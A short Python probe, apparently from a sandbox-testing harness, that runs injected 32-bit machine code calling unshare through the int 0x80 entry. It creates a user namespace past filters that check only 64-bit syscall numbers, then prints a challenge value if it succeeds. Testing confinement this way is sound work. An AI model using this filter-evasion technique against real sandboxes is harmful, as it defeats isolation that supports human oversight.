"""Asks for a user namespace through the 32-bit system call entry, which has other call numbers."""

import ctypes
import mmap
import os

CODE = bytes.fromhex("53b836010000bb00000010cd805bc3")  # in the 32-bit table, unshare is number 310


def attack(facts: dict[str, str]) -> None:
    here = os.readlink("/proc/self/ns/user")
    if os.fork() == 0:
        memory = mmap.mmap(-1, 4096, prot=7)
        memory.write(CODE)
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
        call()
        os._exit(0 if os.readlink("/proc/self/ns/user") != here else 1)
    if os.wait()[1] == 0:
        print("carried", facts["challenge"])
